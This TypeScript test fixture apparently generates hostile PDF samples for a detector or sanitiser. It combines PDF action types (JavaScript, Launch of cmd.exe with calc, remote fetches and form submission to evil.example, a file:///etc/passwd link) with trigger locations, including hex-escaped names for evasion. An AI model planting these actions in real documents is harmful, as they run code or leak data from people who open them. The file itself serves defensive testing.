import { aPdf } from "../pdf.ts";
import { type HostilePdf, hostile } from "./hostile-pdf.ts";

/** Everything that ISO 32000 lets a PDF do (12.6.4), and what readers made of it beyond that. */
const actions: Record<string, string> = {
  "a script": "/S /JavaScript /JS (app.alert\\(1\\))",
  "a script in a stream": "/S /JavaScript /JS 5 0 R",
  "a program": "/S /Launch /F (cmd.exe)",
  "a program with parameters": "/S /Launch /Win << /F (cmd.exe) /P (/c calc) /O (open) >>",
  "another file": "/S /GoToR /F (//evil.example/share/a.pdf) /D [0 /Fit] /NewWindow true",
  "an embedded file": "/S /GoToE /T << /R /C /N (a) >> /D [0 /Fit]",
  "a web page": "/S /URI /URI (https://evil.example/?token)",
  "a script's address": "/S /URI /URI (javascript:alert\\(1\\))",
  "a local file's address": "/S /URI /URI (file:///etc/passwd)",
  "a film": "/S /Movie /T (a) /Operation /Play",
  "a rendition": "/S /Rendition /OP 0 /R << /S /MR /C << /S /MCD /CT (video/mp4) /D (a) >> >>",
  "a sound": "/S /Sound /Sound 5 0 R /Synchronous true",
  "a thread of another file": "/S /Thread /F (//evil.example/a.pdf) /D 0",
  printing: "/S /Named /N /Print",
  "what is hidden": "/S /Hide /T (a) /H false",
  "another layer": "/S /SetOCGState /State [/Toggle 5 0 R]",
  "a form that is sent": "/S /SubmitForm /F << /FS /URL /F (https://evil.example) >> /Flags 4",
  "a form that is emptied": "/S /ResetForm",
  "data that is taken in": "/S /ImportData /F (//evil.example/a.fdf)",
  "a view of a model": "/S /GoTo3DView /TA 5 0 R /V /D",
  "a medium's command": "/S /RichMediaExecute /TA 5 0 R /CMD << /C (play) >>",
};

const annotation = (entries: string) =>
  `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] ${entries} >>]`;
const field = (entries: string) =>
  `/Annots [<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /V (b) /Rect [9 9 99 99] ${entries} >>]`;

/** Where an action can stand, as the parts of a PDF (tests/support/pdf.ts). */
const places: Record<string, (action: string) => Parameters<typeof aPdf>[0]> = {
  "when it is opened": (action) => ({ catalog: `/OpenAction << ${action} >>` }),
  "when it is opened, said elsewhere": (action) => ({
    catalog: "/OpenAction 6 0 R",
    objects: ["null", `<< ${action} >>`],
  }),
  "after another action": (action) => ({
    catalog: `/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [<< ${action} >>] >>`,
  }),
  "when it is closed": (action) => ({ catalog: `/AA << /WC << ${action} >> /WP << ${action} >> >>` }),
  "when its page is shown": (action) => ({ page: `/AA << /O << ${action} >> >>` }),
  "when it is pressed": (action) => ({ page: annotation(`/A << ${action} >>`) }),
  "when the pointer is over it": (action) => ({ page: annotation(`/AA << /E << ${action} >> >>`) }),
  "when a page with it is visible": (action) => ({ page: annotation(`/AA << /PV << ${action} >> >>`) }),
  "when a field is filled in": (action) => ({
    catalog: "/AcroForm << /Fields [] >>",
    page: field(`/AA << /K << ${action} >> /F << ${action} >> >>`),
  }),
  "in the table of contents": (action) => ({
    catalog: "/Outlines 6 0 R",
    objects: ["null", "<< /First 7 0 R /Last 7 0 R >>", `<< /Title (a) /Parent 6 0 R /A << ${action} >> >>`],
  }),
  "in the tree of names": (action) => ({
    catalog: `/Names << /JavaScript << /Names [(a) << ${action} >>] >> >>`,
  }),
  "in names of hexadecimal digits": (action) => ({
    catalog: `/Open#41ction << ${action.replace(/\/([A-Z])/g, (_, letter: string) => `/#${letter.charCodeAt(0).toString(16)}`)} >>`,
  }),
};

export const actionPdfs: HostilePdf[] = Object.entries(actions).flatMap(([what, action]) =>
  Object.entries(places).map(([when, parts]) => hostile(`${what} ${when}`, () => aPdf(parts(action)))),
);
